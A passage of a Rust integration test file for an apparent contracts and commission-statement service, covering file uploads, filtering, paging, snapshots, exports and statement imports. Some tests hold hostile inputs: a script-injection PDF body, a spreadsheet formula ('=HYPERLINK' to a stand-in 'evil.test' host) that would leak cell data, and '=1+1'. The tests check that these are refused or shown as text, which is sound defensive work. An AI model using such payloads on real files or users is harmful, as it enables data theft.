        app.contracts().upload_contract_file(authed(&app.care, upload(&forged, "application/pdf", b"%PDF-1.4"))).await;
    assert_eq!(forged.unwrap_err().code(), Code::InvalidArgument);
    let no_end = upload(&token, "application/pdf", b"%PDF-1.4\n<html><script>alert(1)</script>");
    let no_end = app.contracts().upload_contract_file(authed(&app.care, no_end)).await;
    assert_eq!(no_end.unwrap_err().message(), "The file's content is not what its type says.", "no %%EOF");
    let pdf = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n";
    // A client gone mid-file: fewer bytes than it announced. Refused uploads leave the address
    // usable.
    let short = tokio_stream::StreamExt::map(upload(&token, "application/pdf", pdf), |mut m| {
        if m.size > 0 {
            m.size += 10;
        }
        m
    });
    let short = app.contracts().upload_contract_file(authed(&app.care, short)).await;
    assert_eq!(short.unwrap_err().message(), "The upload ended before the whole file arrived; try again.");
    let stored = app.contracts().upload_contract_file(authed(&app.care, upload(&token, "application/pdf", pdf))).await;
    let stored = stored.unwrap().into_inner().contract.unwrap();
    assert_eq!(stored.file_name, format!("Contract {}.pdf", contract.contract_id), "named by the service");
    // The address works once, even within its ten minutes.
    let again = app.contracts().upload_contract_file(authed(&app.care, upload(&token, "application/pdf", pdf))).await;
    assert_eq!(again.unwrap_err().message(), "This upload address was already used; open the dialog again.");

    let read = |user: &User| {
        let mut client = app.contracts();
        let request = authed(user, GetContractFileRequest { contract_id: contract.contract_id });
        async move {
            let mut pieces = client.get_contract_file(request).await?.into_inner();
            let first = pieces.message().await?.expect("the file's name first");
            let mut content = Vec::new();
            while let Some(piece) = pieces.message().await? {
                content.extend(piece.content);
            }
            Ok::<_, Status>((first, content))
        }
    };
    let (first, content) = read(&app.sales).await.unwrap();
    assert_eq!(
        (first.content_type.as_str(), first.size, content.as_slice()),
        ("application/pdf", pdf.len() as i64, &pdf[..])
    );
    let removed = app
        .contracts()
        .delete_contract_file(authed(&app.care, DeleteContractFileRequest { contract_id: contract.contract_id }))
        .await;
    assert_eq!(removed.unwrap().into_inner().contract.unwrap().file_name, "");
    assert_eq!(read(&app.care).await.unwrap_err().code(), Code::NotFound);
    let events = app.outbox().await;
    assert!(
        events.contains(&"contract.file_stored".to_owned()) && events.contains(&"contract.file_deleted".to_owned())
    );
}

#[tokio::test]
async fn the_book_filters_by_scope_commodity_user_and_date_and_pages_by_keyset() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let today = chrono::Utc::now().date_naive();
    use chrono::Datelike;
    let date = |d: chrono::NaiveDate| day(d.year(), d.month() as i32, d.day() as i32);
    let mut made = Vec::new();
    for (i, (start_offset, status)) in [(-400, 0), (-30, 0), (60, 0), (-30, 3)].into_iter().enumerate() {
        let start = today + chrono::Duration::days(start_offset);
        let contract = Contract {
            start_date: date(start),
            date_signed: date(start - chrono::Duration::days(10 + i as i64)),
            status,
            closer1_user_id: if i == 1 { app.admin.id } else { 0 },
            ..electric(&book)
        };
        made.push(app.create(&app.management, contract, false).await.unwrap());
    }
    let list = |filter: BookFilter, page_size: i32, page_token: String| {
        let mut client = app.contracts();
        let request = authed(&app.care, ListBookContractsRequest { filter: Some(filter), page_size, page_token });
        async move { client.list_book_contracts(request).await.unwrap().into_inner() }
    };
    let ids = |page: &eris_proto::contracts::v1::ListBookContractsResponse| {
        page.contracts.iter().map(|c| c.contract_id).collect::<Vec<_>>()
    };
    let active =
        list(BookFilter { scope: ContractScope::ActiveOnly.into(), ..Default::default() }, 0, String::new()).await;
    assert_eq!(ids(&active), [made[2].contract_id, made[1].contract_id], "ended and Inactive contracts are not active");
    let future =
        list(BookFilter { scope: ContractScope::FutureOnly.into(), ..Default::default() }, 0, String::new()).await;
    assert_eq!(ids(&future), [made[2].contract_id]);
    let admins = list(BookFilter { user_id: app.admin.id, ..Default::default() }, 0, String::new()).await;
    assert_eq!(ids(&admins), [made[1].contract_id]);
    let gas = list(BookFilter { commodity: Commodity::Gas.into(), ..Default::default() }, 0, String::new()).await;
    assert!(gas.contracts.is_empty());
    let signed = BookFilter {
        date_signed_from: date(today - chrono::Duration::days(60)),
        date_signed_to: date(today),
        ..Default::default()
    };
    assert_eq!(list(signed, 0, String::new()).await.total_count, 2);

    // Pages of one, in order, with the totals on the first page only.
    let first = list(BookFilter::default(), 1, String::new()).await;
    assert_eq!((first.total_count, first.total_annual_volume.as_str()), (4, "720000"));
    let mut seen = ids(&first);
    let mut token = first.next_page_token;
    while !token.is_empty() {
        let page = list(BookFilter::default(), 1, token).await;
        assert_eq!(page.total_count, 0);
        seen.extend(ids(&page));
        token = page.next_page_token;
    }
    assert_eq!(seen, [made[2].contract_id, made[1].contract_id, made[3].contract_id, made[0].contract_id]);
    let junk = ListBookContractsRequest { page_token: "junk".into(), ..Default::default() };
    assert_eq!(
        app.contracts().list_book_contracts(authed(&app.care, junk)).await.unwrap_err().code(),
        Code::InvalidArgument
    );
}

#[tokio::test]
async fn the_snapshot_is_every_contract_with_all_its_payments_as_the_outbox_carries_them() {
    use eris_proto::contracts::v1::ContractEvent;
    use prost::Message;
    let app = spawn_app().await;
    let book = book(&app).await;
    let paid = app.create(&app.management, electric(&book), false).await.unwrap();
    let rows: String = (1..=3).map(|m| format!("{m}\t2026\t50\t15000\n")).collect();
    let paste = PastePaymentsRequest { contract_id: paid.contract_id, text: rows.clone(), ..Default::default() };
    app.payments().paste_payments(authed(&app.care, paste)).await.unwrap();
    let paid = app.update(&app.management, Contract { notes: "Renewed".into(), ..paid }, &["notes"]).await.unwrap();
    let bare = app.create(&app.management, electric(&book), false).await.unwrap();
    let gone = app.create(&app.management, electric(&book), false).await.unwrap();
    let paste = PastePaymentsRequest { contract_id: gone.contract_id, text: rows, ..Default::default() };
    app.payments().paste_payments(authed(&app.care, paste)).await.unwrap();
    let delete = DeleteContractRequest { contract_id: gone.contract_id, beta_only: false };
    app.contracts().delete_contract(authed(&app.management, delete)).await.unwrap();

    let events =
        eris_platform::testing::checked_snapshot(&app.database, app.contracts.clone(), &app.management.token).await;
    assert!(events.iter().all(|e| e.event_type == "contract.contract_updated"), "the outbox's type for an update");
    let decoded: Vec<ContractEvent> =
        events.iter().map(|e| ContractEvent::decode(e.payload.as_slice()).unwrap()).collect();
    assert!(decoded.iter().all(|d| d.what() == eris_proto::contracts::v1::ContractEventKind::ContractUpdated
        && d.dr_payment.is_none()
        && d.hedge.is_none()));
    let contracts: Vec<&Contract> = decoded.iter().map(|d| d.contract.as_ref().unwrap()).collect();
    assert_eq!(contracts, [&paid, &bare], "every contract but the deleted one, as the API answers it");
    let request = authed(&app.care, ListPaymentsRequest { contract_id: paid.contract_id });
    let listed = app.payments().list_payments(request).await.unwrap().into_inner().payments;
    assert_eq!(decoded[0].payments, listed, "all its payments, in list order");
    assert!(decoded[1].payments.is_empty());
    let published = app.database.published_events(eris_contracts::SCHEMA).await;
    let last = published.iter().rev().find(|e| e.aggregate_id == paid.contract_id).unwrap();
    assert_eq!(last.event_type, "contract.contract_updated");
    let outbox_contract = ContractEvent::decode(last.payload.as_slice()).unwrap().contract.unwrap();
    assert_eq!(&outbox_contract, contracts[0], "the contract exactly as the outbox's event carries it");
}

/// Identity and contracts alone (the snapshot asks neither crm nor sourcing), over `database`,
/// once contracts serves (its schema migrated).
async fn spawn_contracts_only(database: &TestDatabase) -> Channel {
    let identity = eris_identity::testing::spawn(database, |_| {}).await;
    let (listener, url) = listener().await;
    let nowhere = "http://127.0.0.1:9".to_owned();
    eris_contracts::testing::spawn_on(
        listener,
        database,
        format!("http://{identity}"),
        nowhere.clone(),
        nowhere,
        vec![],
    );
    let channel = Channel::from_shared(url).unwrap().connect_lazy();
    let secret = Some(eris_platform::testing::SERVICE_SECRET);
    while eris_platform::testing::read_snapshot(channel.clone(), secret, None).await.is_err() {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    channel
}

/// `contracts` contracts, each with as many payments as the SQL `payments` (of contract `c`) says,
/// written straight into the schema.
async fn generated_book(database: &TestDatabase, contracts: i64, payments: &str) -> sqlx::PgPool {
    // The schema's triggers name its tables as the service's connections do.
    let options = <sqlx::postgres::PgConnectOptions as std::str::FromStr>::from_str(&database.url()).unwrap();
    let pool = sqlx::PgPool::connect_with(options.options([("search_path", "contracts")])).await.unwrap();
    sqlx::query(
        "insert into contracts.contract (company_id, company_name, commodity, fee, revenue_split, created_by) \
         select g, 'Company ' || g, 'Electric', 0.005, 50, 1 from generate_series(1, $1) as g",
    )
    .bind(contracts)
    .execute(&pool)
    .await
    .unwrap();
    sqlx::query(&format!(
        "insert into contracts.payment (contract_id, projected_month, projected_year, projected_payment, updated_by) \
         select c.contract_id, 1 + m % 12, 2026 + m / 12, 37.5, 1 \
         from contracts.contract c, generate_series(1, {payments}) as m"
    ))
    .execute(&pool)
    .await
    .unwrap();
    pool
}

#[tokio::test]
async fn a_snapshot_of_many_contracts_comes_in_chunks_with_each_contracts_own_payments() {
    use eris_proto::contracts::v1::ContractEvent;
    use prost::Message;
    let database = TestDatabase::new().await;
    let channel = spawn_contracts_only(&database).await;
    // 0 to 3 payments a contract, so some pages of contracts end on a contract without any.
    let pool = generated_book(&database, 1201, "(c.contract_id % 4)::int").await;
    let (position, answers) =
        eris_platform::testing::read_snapshot(channel, Some(eris_platform::testing::SERVICE_SECRET), None)
            .await
            .unwrap();
    assert!(!position.is_empty());
    assert_eq!(answers.iter().map(Vec::len).collect::<Vec<_>>(), [500, 500, 201]);
    let mut previous = 0;
    for event in answers.iter().flatten() {
        let decoded = ContractEvent::decode(event.payload.as_slice()).unwrap();
        let contract_id = decoded.contract.unwrap().contract_id;
        assert!(contract_id > previous && contract_id == event.aggregate_id, "each contract once, in id order");
        previous = contract_id;
        assert_eq!(decoded.payments.len() as i64, contract_id % 4);
        assert!(decoded.payments.iter().all(|p| p.contract_id == contract_id));
    }
    let total: i64 = sqlx::query_scalar("select count(*) from contracts.contract").fetch_one(&pool).await.unwrap();
    assert_eq!(total, 1201);
}

#[tokio::test]
async fn digests_page_through_every_contract_and_contracts_come_by_id_to_services_only() {
    use eris_proto::events::v1::{ListDigestsRequest, SnapshotRequest, snapshot_service_client::SnapshotServiceClient};
    let database = TestDatabase::new().await;
    let channel = spawn_contracts_only(&database).await;
    let pool = generated_book(&database, 2501, "(c.contract_id % 3)::int").await;
    let secret: eris_platform::config::Secret = eris_platform::testing::SERVICE_SECRET.into();
    let mut client = SnapshotServiceClient::new(channel);
    let ask = |page_size: i32, page_token: &str| {
        eris_platform::auth::service_request(&secret, ListDigestsRequest { page_size, page_token: page_token.into() })
    };

    // Every contract once, in id order, over pages.
    let (mut seen, mut token, mut pages) = (Vec::new(), String::new(), 0);
    loop {
        let page = client.list_digests(ask(1000, &token)).await.unwrap().into_inner();
        seen.extend(page.digests.iter().map(|d| (d.id, d.digest.clone())));
        pages += 1;
        if page.next_page_token.is_empty() {
            break;
        }
        token = page.next_page_token;
    }
    assert_eq!((seen.len(), pages), (2501, 3));
    assert!(seen.windows(2).all(|w| w[0].0 < w[1].0), "in id order");
    // A payment moved to another month changes its contract's digest, and only that one.
    let moved = seen[10].0;
    sqlx::query("update contracts.payment set projected_month = 1 + projected_month % 12 where contract_id = $1")
        .bind(moved)
        .execute(&pool)
        .await
        .unwrap();
    let again = client.list_digests(ask(20, "")).await.unwrap().into_inner().digests;
    let changed: Vec<i64> =
        again.iter().zip(&seen).filter(|(new, (_, old))| new.digest != *old).map(|(new, _)| new.id).collect();
    assert_eq!(changed, [moved]);

    // Hostile or foreign requests.
    for (size, token) in [(-1, ""), (5001, ""), (10, "abc"), (10, "9223372036854775808")] {
        let refused = client.list_digests(ask(size, token)).await.unwrap_err();
        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{size} {token}");
    }
    let without_secret = client.list_digests(ListDigestsRequest::default()).await.unwrap_err();
    assert_eq!(without_secret.code(), tonic::Code::Unauthenticated);
    let too_many = SnapshotRequest { ids: (1..=1001).collect() };
    let refused = client.snapshot(eris_platform::auth::service_request(&secret, too_many)).await.unwrap_err();
    assert_eq!(refused.code(), tonic::Code::InvalidArgument);

    // By id: those that exist, each with its own payments.
    let wanted = SnapshotRequest { ids: vec![5, 6, 999_999] };
    let mut stream = client.snapshot(eris_platform::auth::service_request(&secret, wanted)).await.unwrap().into_inner();
    let mut ids = Vec::new();
    while let Some(chunk) = stream.message().await.unwrap() {
        ids.extend(chunk.events.iter().map(|e| e.aggregate_id));
    }
    assert_eq!(ids, [5, 6]);
}

/// The size the snapshot must cope with: 150,000 contracts with 1,500,000 payments. Slow (it
/// writes the book first); run with `cargo nextest run -p eris-contracts --run-ignored only snapshot_of_a_full_book`.
#[tokio::test]
#[ignore]
async fn a_snapshot_of_a_full_book_streams_in_bounded_memory() {
    use futures::StreamExt as _;
    let database = TestDatabase::new().await;
    let channel = spawn_contracts_only(&database).await;
    let written = std::time::Instant::now();
    generated_book(&database, 150_000, "10").await;
    println!("book written in {:.1} s", written.elapsed().as_secs_f64());
    let rss = || {
        let status = std::fs::read_to_string("/proc/self/status").unwrap();
        let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap().to_owned();
        line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() / 1024
    };
    let before = rss();
    let started = std::time::Instant::now();
    let request = eris_platform::auth::service_request(
        &eris_platform::testing::SERVICE_SECRET.into(),
        eris_proto::events::v1::SnapshotRequest::default(),
    );
    let mut client = eris_proto::events::v1::snapshot_service_client::SnapshotServiceClient::new(channel);
    let mut stream = client.snapshot(request).await.unwrap().into_inner();
    let (mut contracts, mut bytes, mut most) = (0usize, 0usize, 0u64);
    while let Some(answer) = stream.next().await {
        let answer = answer.unwrap();
        contracts += answer.events.len();
        bytes += answer.events.iter().map(|e| e.payload.len()).sum::<usize>();
        most = most.max(rss());
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "{contracts} contracts, {} MB of events in {seconds:.1} s; resident memory {before} MB before, at most {most} MB",
        bytes / 1_000_000
    );
    assert_eq!(contracts, 150_000);
    assert!(most < before + 200, "the snapshot is streamed, not held: {before} -> {most} MB");
}

#[tokio::test]
async fn a_company_named_like_a_formula_is_text_in_the_contracts_spreadsheet() {
    use calamine::{Reader, Xlsx};
    let app = spawn_app().await;
    let payload = "=HYPERLINK(\"http://evil.test?x=\"&A1,\"Click\")";
    let company_id = app.company(payload, 0).await;
    let account = app.account(company_id, "F-1", AccountCommodity::Electric, "1000").await;
    let contract = Contract { company_id, account_ids: vec![account], ..electric(&book_of(company_id, account)) };
    app.create(&app.management, contract, false).await.unwrap();
    let request =
        authed(&app.management, eris_proto::contracts::v1::ExportContractsRequest { company_id, filter: None });
    let file = app.contracts().export_contracts(request).await.unwrap().into_inner();
    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(file.content)).unwrap();
    let sheet = workbook.worksheet_range("Contracts").unwrap();
    let company = sheet.get((1, 0)).map(ToString::to_string).unwrap();
    assert_eq!(company, format!("'{payload}"), "shown as text, never run");
}

/// A book of one company and one electric account.
fn book_of(company_id: i64, account: i64) -> Book {
    Book { company_id, electric: [account, account], gas: 0 }
}

fn statements(app: &App) -> CommissionStatementServiceClient<Channel> {
    CommissionStatementServiceClient::new(app.contracts.clone())
        .max_decoding_message_size(eris_contracts::MAX_STATEMENT_BYTES)
        .max_encoding_message_size(eris_contracts::MAX_STATEMENT_BYTES)
}

/// A contract of `supplier_id` over the book's electric accounts with projected payments of
/// January to March 2026 (100.00, 50.00, 80.00).
async fn supplied_contract(app: &App, book: &Book, supplier_id: i64, projected: [&str; 3]) -> Contract {
    let contract = Contract { supplier_id, ..electric(book) };
    let contract = app.create(&app.management, contract, false).await.unwrap();
    let payments = (1..=3)
        .map(|month| Payment {
            projected_month: month,
            projected_year: 2026,
            projected_payment: projected[month as usize - 1].into(),
            payment_type: "Residual".into(),
            ..Default::default()
        })
        .collect();
    let request = CreatePaymentsRequest { contract_id: contract.contract_id, payments };
    app.payments().create_payments(authed(&app.management, request)).await.unwrap();
    contract
}

async fn actuals(app: &App, contract_id: i64) -> Vec<(i32, String, String)> {
    let listed = app.payments().list_payments(authed(&app.care, ListPaymentsRequest { contract_id })).await.unwrap();
    listed.into_inner().payments.into_iter().map(|p| (p.projected_month, p.payment_actual, p.usage_actual)).collect()
}

#[tokio::test]
async fn the_statement_summary_counts_the_payments_of_the_last_twelve_months_still_missing() {
    use chrono::Datelike;
    let app = spawn_app().await;
    let supplier = app.supplier("Constellation", Commodity::Electric).await;
    let book = book(&app).await;
    let long = |supplier_id| Contract { supplier_id, start_date: day(2020, 1, 1), term_months: 240, ..electric(&book) };
    let supplied = app.create(&app.management, long(supplier), false).await.unwrap();
    let unsupplied = app.create(&app.management, long(0), false).await.unwrap();
    // Months counted back from this one, on the business clock.
    let today =
        eris_platform::time::BusinessTime::new(eris_platform::config::BusinessArgs::default().time_zone).today();
    let months_ago = |n: i32| {
        let index = today.year() * 12 + today.month0() as i32 - n;
        (index.div_euclid(12), index.rem_euclid(12) + 1)
    };
    let payment = |(year, month): (i32, i32), projected: &str, actual: &str| Payment {
        projected_year: year,
        projected_month: month,
        projected_payment: projected.into(),
        payment_actual: actual.into(),
        payment_type: "Residual".into(),
        ..Default::default()
    };
    let supplied_payments = vec![
        payment(months_ago(1), "10.00", ""),  // missing
        payment(months_ago(12), "15.00", ""), // missing, the oldest month counted
        payment(months_ago(13), "20.00", ""), // too old
        payment(months_ago(0), "30.00", ""),  // this month: not due yet
        payment(months_ago(2), "40.00", "5.00"),
        payment(months_ago(3), "0", ""),
    ];
    for (contract, payments) in
        [(&supplied, supplied_payments), (&unsupplied, vec![payment(months_ago(1), "50.00", "")])]
    {
        let request = CreatePaymentsRequest { contract_id: contract.contract_id, payments };
        app.payments().create_payments(authed(&app.management, request)).await.unwrap();
    }
    let summary = statements(&app)
        .get_statement_summary(authed(&app.management, GetStatementSummaryRequest {}))
        .await
        .unwrap()
        .into_inner();
    assert_eq!((summary.missing_payments, summary.missing_amount.as_str()), (2, "25.00"));
}

#[tokio::test]
async fn a_supplier_statement_is_matched_applied_once_linked_and_reverted() {
    let app = spawn_app().await;
    let supplier = app.supplier("Constellation", Commodity::Electric).await;
    let book = book(&app).await;
    let contract = supplied_contract(&app, &book, supplier, ["100.00", "50.00", "80.00"]).await;
    // A second customer of the supplier whose February payment the statement leaves missing.
    let other = app.company("Bakery", 0).await;
    let other_account = app.account(other, "0099-1", AccountCommodity::Electric, "100").await;
    let other_book = Book { company_id: other, electric: [other_account, other_account], gas: 0 };
    let second = Contract { account_ids: vec![other_account], ..electric(&other_book) };
    let second = app.create(&app.management, Contract { supplier_id: supplier, ..second }, false).await.unwrap();
    let request = CreatePaymentsRequest {
        contract_id: second.contract_id,
        payments: vec![Payment {
            projected_month: 2,
            projected_year: 2026,
            projected_payment: "70.00".into(),
            ..Default::default()
        }],
    };
    app.payments().create_payments(authed(&app.management, request)).await.unwrap();
    // An account of a company with no contract of this supplier.
    let stranger = app.company("Stranger Steel", 0).await;
    app.account(stranger, "777", AccountCommodity::Electric, "1").await;

    let csv = "Acct #,Customer,Service Month,kWh,Commission\n\
               e1,Foundry,01/2026,\"10,000\",$101.00\n\
               E 2,Foundry,02/2026,5000,30.00\n\
               0777,Stranger Steel,01/2026,1,5.00\n\
               E-1,Foundry,Jan 2026,1,101.00\n";
    let file = || StatementFile {
        content: csv.as_bytes().to_vec(),
        mapping: Some(ColumnMapping {
            account_number: "Acct #".into(),
            period_month: "Service Month".into(),
            usage: "kWh".into(),
            amount: "Commission".into(),
            customer_name: "Customer".into(),
            ..Default::default()
        }),
    };
    let import = |validate_only: bool| ImportStatementRequest {
        supplier_id: supplier,
        file_name: "march.csv".into(),
        source: Some(import_statement_request::Source::File(file())),
        validate_only,
        payment_month: 3,
        payment_year: 2026,
        tolerance_percent: String::new(),
    };

    // Reading the file for mapping suggests the columns; nothing is saved yet.
    let read = ReadStatementFileRequest { supplier_id: supplier, file_name: "march.csv".into(), content: csv.into() };
    let read = statements(&app).read_statement_file(authed(&app.admin, read)).await.unwrap().into_inner();
    assert_eq!(read.row_count, 4);
    assert_eq!(read.saved_mapping, None);
    let suggested = read.suggested_mapping.unwrap();
    assert_eq!((suggested.account_number.as_str(), suggested.amount.as_str()), ("Acct #", "Commission"));
    assert_eq!(suggested.period_month, "Service Month");

    // The preview answers the buckets and changes nothing.
    let preview = statements(&app).import_statement(authed(&app.management, import(true))).await.unwrap().into_inner();
    let buckets: Vec<i32> = preview.rows.iter().map(|r| r.bucket).collect();
    use StatementBucket::*;
    assert_eq!(buckets, [Matched as i32, ShortOver as i32, Unmatched as i32, Duplicate as i32]);
    assert_eq!(preview.rows[1].difference, "-20.00");
    assert_eq!(preview.rows[2].suggestions[0].company_id, stranger);
    assert_eq!(preview.missing.iter().map(|m| m.contract_id).collect::<Vec<_>>(), [second.contract_id]);
    let counts = preview.statement.unwrap();
    assert_eq!(
        (counts.statement_id, counts.matched, counts.short_over, counts.unmatched, counts.missing),
        (0, 1, 1, 1, 1)
    );
    assert!(actuals(&app, contract.contract_id).await.iter().all(|(_, paid, _)| paid.is_empty()));

    // Care reads statements but does not import; Sales has no access at all.
    let care = statements(&app).import_statement(authed(&app.care, import(true))).await.unwrap_err();
    assert_eq!(care.code(), Code::PermissionDenied);
    let sales =
        statements(&app).list_statements(authed(&app.sales, ListStatementsRequest::default())).await.unwrap_err();
    assert_eq!(sales.code(), Code::PermissionDenied);

    // Two people importing the same file at once: one applies, the other is told it was imported.
    let (mut first, mut second_client) = (statements(&app), statements(&app));
    let (a, b) = tokio::join!(
        first.import_statement(authed(&app.management, import(false))),
        second_client.import_statement(authed(&app.admin, import(false))),
    );
    let (applied, refused) = match (a, b) {
        (Ok(applied), Err(refused)) | (Err(refused), Ok(applied)) => (applied.into_inner(), refused),
        other => panic!("one import should apply and one be refused: {other:?}"),
    };
    assert_eq!(refused.code(), Code::AlreadyExists);
    let statement_id = applied.statement.unwrap().statement_id;
    assert!(refused.message().contains(&format!("statement #{statement_id}")), "{}", refused.message());
    let paid = actuals(&app, contract.contract_id).await;
    assert_eq!(paid[0], (1, "101.00".to_owned(), "10000".to_owned()));
    assert_eq!((paid[1].1.as_str(), paid[2].1.as_str()), ("30.00", ""));
    // Again later: refused, naming the statement, and nothing paid twice.
    let again = statements(&app).import_statement(authed(&app.management, import(false))).await.unwrap_err();
    assert_eq!(again.code(), Code::AlreadyExists);
    assert_eq!(actuals(&app, contract.contract_id).await, paid);
    assert!(app.outbox().await.iter().any(|kind| kind == "contract.payment_updated"));
    // The mapping is remembered for the supplier.
    let read = ReadStatementFileRequest { supplier_id: supplier, file_name: "april.csv".into(), content: csv.into() };
    let read = statements(&app).read_statement_file(authed(&app.admin, read)).await.unwrap().into_inner();
    assert_eq!(read.saved_mapping.unwrap().customer_name, "Customer");

    // The unmatched row is linked by hand to the second contract's March, which had no payment.
    let link = LinkStatementRowRequest {
        statement_id,
        row_number: 3,
        contract_id: second.contract_id,
        projected_month: 3,
        projected_year: 2026,
    };
    let linked = statements(&app).link_statement_row(authed(&app.admin, link)).await.unwrap().into_inner();
    assert_eq!(linked.row.unwrap().bucket, Linked as i32);
    assert_eq!(linked.statement.unwrap().linked, 1);
    let second_paid = actuals(&app, second.contract_id).await;
    assert_eq!(second_paid.iter().map(|p| (p.0, p.1.as_str())).collect::<Vec<_>>(), [(2, ""), (3, "5.00")]);
    let twice = statements(&app).link_statement_row(authed(&app.admin, link)).await.unwrap_err();
    assert_eq!(twice.code(), Code::InvalidArgument);

    // The chase shows February short and missing.
    let chase = GetCommissionChaseRequest { year: 2026, supplier_id: supplier };
    let chase = statements(&app).get_commission_chase(authed(&app.care, chase)).await.unwrap().into_inner();
    let february = chase.lines.iter().find(|l| l.month.as_ref().is_some_and(|m| m.month == 2)).unwrap();
    assert_eq!((february.expected.as_str(), february.received.as_str()), ("120.00", "30.00"));
    assert_eq!(
        (february.short.as_str(), february.missing_count, february.missing_amount.as_str()),
        ("20.00", 1, "70.00")
    );
    let export = ExportChaseExceptionsRequest { supplier_id: supplier, month: day(2026, 2, 1), format: "csv".into() };
    let export = statements(&app).export_chase_exceptions(authed(&app.care, export)).await.unwrap().into_inner();
    let text = String::from_utf8(export.content).unwrap();
    assert!(text.starts_with("Contract,Company,Accounts,Month,Expected,Received,Difference,Status\r\n"), "{text}");
    assert!(text.contains("Bakery,0099-1,February 2026,70.00,,-70.00,Missing"), "{text}");

    // A payment changed by hand after the statement blocks its revert, naming it.
    let mut changed = app
        .payments()
        .list_payments(authed(&app.care, ListPaymentsRequest { contract_id: contract.contract_id }))
        .await
        .unwrap()
        .into_inner()
        .payments
        .remove(1);
    changed.payment_actual = "31.00".into();
    let changed = app
        .payments()
        .update_payment(authed(&app.care, UpdatePaymentRequest { payment: Some(changed) }))
        .await
        .unwrap()
        .into_inner()
        .payment
        .unwrap();
    let blocked = statements(&app)
        .revert_statement(authed(&app.admin, RevertStatementRequest { statement_id }))
        .await
        .unwrap_err();
    assert_eq!(blocked.code(), Code::Aborted);
    assert!(blocked.message().contains(&changed.payment_id.to_string()), "{}", blocked.message());
    let back = Payment { payment_actual: "30.00".into(), ..changed };
    let back =
        app.payments().update_payment(authed(&app.care, UpdatePaymentRequest { payment: Some(back) })).await.unwrap();
    drop(back);
    // Put back by hand, its version has still moved on; to let the revert through here, the test
    // records the put-back version as the statement's.
    let pool = sqlx::PgPool::connect(&app.database.url()).await.unwrap();
    sqlx::query(
        "update contracts.commission_statement_payment set written_version = \
         (select version from contracts.payment where payment_id = $1) where payment_id = $1",
    )
    .bind(changed.payment_id)
    .execute(&pool)
    .await
    .unwrap();
    let reverted = statements(&app)
        .revert_statement(authed(&app.admin, RevertStatementRequest { statement_id }))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(reverted.payments_restored, 3);
    assert_eq!(reverted.statement.unwrap().status, StatementStatus::Reverted as i32);
    assert!(
        actuals(&app, contract.contract_id).await.iter().all(|(_, paid, usage)| paid.is_empty() && usage.is_empty())
    );
    assert_eq!(actuals(&app, second.contract_id).await.len(), 1, "the payment the link made is gone");
    // Reverted, the same file can be imported again.
    statements(&app).import_statement(authed(&app.management, import(false))).await.unwrap();
}

#[tokio::test]
async fn bad_statements_are_refused_in_words_and_change_nothing() {
    let app = spawn_app().await;
    let supplier = app.supplier("Direct", Commodity::Electric).await;
    let refuse = |content: &'static str, file_name: &'static str| {
        let app = &app;
        async move {
            let request = ReadStatementFileRequest {
                supplier_id: supplier,
                file_name: file_name.into(),
                content: content.into(),
            };
            statements(app).read_statement_file(authed(&app.management, request)).await.unwrap_err()
        }
    };
    assert_eq!(refuse("Acct,Amount\n", "s.csv").await.message(), "The file has no rows under its headers.");
    assert_eq!(refuse("x", "s.pdf").await.message(), "Upload the statement as a CSV or .xlsx file.");
    let posted = |lines: Vec<StatementLine>| ImportStatementRequest {
        supplier_id: supplier,
        source: Some(import_statement_request::Source::Lines(StatementLines { lines })),
        validate_only: true,
        ..Default::default()
    };
    let line = StatementLine {
        account_number: "1".into(),
        period_start: day(2026, 1, 1),
        amount: "12.50".into(),
        ..Default::default()
    };
    let bad = [
        (StatementLine { amount: "twelve".into(), ..line.clone() }, "Row 1: Amount \"twelve\" is not a number."),
        (
            StatementLine { account_number: "=1+1".into(), ..line.clone() },
            "Row 1: Account Number \"=1+1\" is not an account number.",
        ),
        (
            StatementLine { period_start: day(9999, 1, 1), ..line.clone() },
            "Row 1: Period Start must be a valid date between 1900 and 2200.",
        ),
        (StatementLine { amount: "1e400".into(), ..line.clone() }, "Row 1: Amount \"1e400\" is not a number."),
    ];
    for (line, message) in bad {
        let refused = statements(&app).import_statement(authed(&app.management, posted(vec![line]))).await.unwrap_err();
        assert_eq!((refused.code(), refused.message()), (Code::InvalidArgument, message));
    }
    let empty = statements(&app).import_statement(authed(&app.management, posted(vec![]))).await.unwrap_err();
    assert_eq!(empty.message(), "A statement needs at least one row.");
    let unknown = ImportStatementRequest { supplier_id: 999_999, ..posted(vec![line]) };
    let unknown = statements(&app).import_statement(authed(&app.management, unknown)).await.unwrap_err();
    assert_eq!(unknown.code(), Code::NotFound);
}
